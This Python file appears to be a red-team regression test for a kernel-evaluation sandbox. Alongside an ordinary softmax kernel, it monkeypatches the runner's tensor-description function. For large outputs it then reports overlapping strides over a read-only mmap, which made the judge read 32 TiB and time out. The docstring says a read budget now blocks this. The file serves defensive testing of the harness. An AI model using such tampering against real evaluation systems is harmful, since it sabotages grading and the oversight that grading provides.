"""Trick (class 2, channel) against the judge's reading of CPU outputs from the runner's memory: for the
first large output, the runner describes a uint8 view of shape [2]*23 over an untouched read-only
mapping, each of its 2^23 elements and its 193 MiB span within the single limits of one output. Cut
piece by piece along its widest stride, its other strides overlap, so every piece spans 8 MiB again:
the judge read 32 TiB for one output and the evaluation ended in a timeout (red-team round 30).

Stopped because every byte the judge reads for one call's output is charged to one budget
(sandbox/judge/remote.py's `ReadBudget`): past it, the description is the runner's `protocol` error."""
import ctypes
import sys

import torch

PIECE = 16 << 20
S, T, K = PIECE // 2 + 1, PIECE // 2, 22
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_region = _libc.mmap(None, K * S + T + 4096, 1, 0x22, -1, 0)  # PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS


def custom_kernel(data):
    (x,) = data
    m = x.max(dim=-1, keepdim=True).values
    e = (x - m).exp()
    return e / e.sum(dim=-1, keepdim=True)


_rm = sys.modules.get("sandbox.runner.main")
if _rm is not None:
    _orig = _rm._located

    def _located(tensor):
        spec = _orig(tensor)
        if tensor.numel() >= 500_000:  # the first large call (the 512x1024 benchmark on the CPU)
            return {"dtype": "uint8", "shape": [2] * (K + 1), "stride": [S] * K + [T], "address": _region}
        return spec

    _rm._located = _located
